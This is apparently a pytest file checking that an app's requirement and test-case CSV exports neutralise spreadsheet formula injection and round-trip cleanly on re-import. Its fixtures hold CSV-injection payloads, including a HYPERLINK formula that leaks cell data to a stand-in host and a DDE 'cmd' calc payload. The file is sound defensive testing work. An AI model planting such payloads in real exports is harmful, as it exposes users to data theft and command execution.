"""Issue 13.8: no exported CSV cell runs as a formula in a spreadsheet (OWASP CSV injection). Text cells
starting with = + - @, tab or carriage return get a leading apostrophe; importing the export strips it
again, so the round trip changes nothing."""

import ast
import csv
import io
from decimal import Decimal
from pathlib import Path

from app.utils.spreadsheet_csv import safe_cell, unquote_cell, write_csv
from tests.api.test_delivery_import import _p, _upload

ROOT = Path(__file__).resolve().parents[2]
HOSTILE = {
    "title": '=HYPERLINK("http://evil.test/?"&A1,"Click")',
    "scope_item": "+1+cmd|' /C calc'!A0",
    "workshop_ref": "@SUM(1+1)*cmd",
    "external_id": "-2+3",
}


def _rows(data: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))


def test_requirement_export_neutralises_formulas_and_round_trips(admin_a, tenant_a, make_project):
    project_id = make_project(tenant_a["tenant_id"])
    created = admin_a.post(_p(project_id, "requirements"), json={**HOSTILE, "module": "FI"})
    assert created.status_code == 201, created.json
    for excel in ("csv", "excel"):
        exported = admin_a.get(_p(project_id, "requirements/export"), query_string={"format": excel})
        (row,) = _rows(exported.data)
        for field, value in HOSTILE.items():
            assert row[field] == "'" + value, field
        assert row["code"] == "REQ-0001" and row["status"] == "draft"  # plain cells stay as they are
        again = _upload(admin_a, _p(project_id, "requirements/import"), exported.data)
        assert again.json == {"created": 0, "updated": 0, "unchanged": 1}, again.json
    stored = admin_a.get(_p(project_id, "requirements")).json["items"][0]
    assert {k: stored[k] for k in HOSTILE} == HOSTILE


def test_test_case_export_neutralises_formulas(admin_a, tenant_a, make_project):
    project_id = make_project(tenant_a["tenant_id"])
    body = {"title": "\tcmd", "steps": "=1+1", "expected_result": "-1+2", "module": "MM"}
    assert admin_a.post(_p(project_id, "test-cases"), json=body).status_code == 201
    exported = admin_a.get(_p(project_id, "test-cases/export")).data
    (row,) = _rows(exported)
    assert (row["title"], row["steps"]) == ("'\tcmd", "'=1+1")
    assert row["expected_result"] == "'-1+2"
    again = admin_a.post(_p(project_id, "test-cases/import"), data=exported, content_type="text/csv")
    assert again.json == {"created": 0, "updated": 0, "unchanged": 1}, again.json


def test_safe_cell_prefixes_text_and_leaves_numbers():
    for text in ("=A1", "+1", "-1", "@x", "\tx", "\rx"):
        assert safe_cell(text) == "'" + text
        assert unquote_cell(safe_cell(text)) == text
    assert safe_cell("Plain - text") == "Plain - text" and safe_cell(None) == ""
    assert unquote_cell("'quoted") == "'quoted"  # only the apostrophe an export adds is taken off
    # Numbers from our own columns are not typed text: a negative one stays a number.
    assert safe_cell(-5) == -5 and safe_cell(-1.5) == -1.5 and safe_cell(Decimal("-2")) == Decimal("-2")
    assert safe_cell(True) == "True"
    assert write_csv(["a", "b"], [["=x", -3]]) == b"a,b\n'=x,-3\n"


def test_every_csv_writer_in_the_app_is_the_safe_one():
    """A new export that calls csv.writer directly would skip the neutralisation."""
    offenders = []
    for path in (ROOT / "app").rglob("*.py"):
        if path == ROOT / "app/utils/spreadsheet_csv.py":
            continue
        for node in ast.walk(ast.parse(path.read_text())):
            if isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter") and _is_csv(node.value):
                offenders.append(str(path.relative_to(ROOT)))
    assert offenders == []


def _is_csv(node) -> bool:
    return isinstance(node, ast.Name) and node.id == "csv"
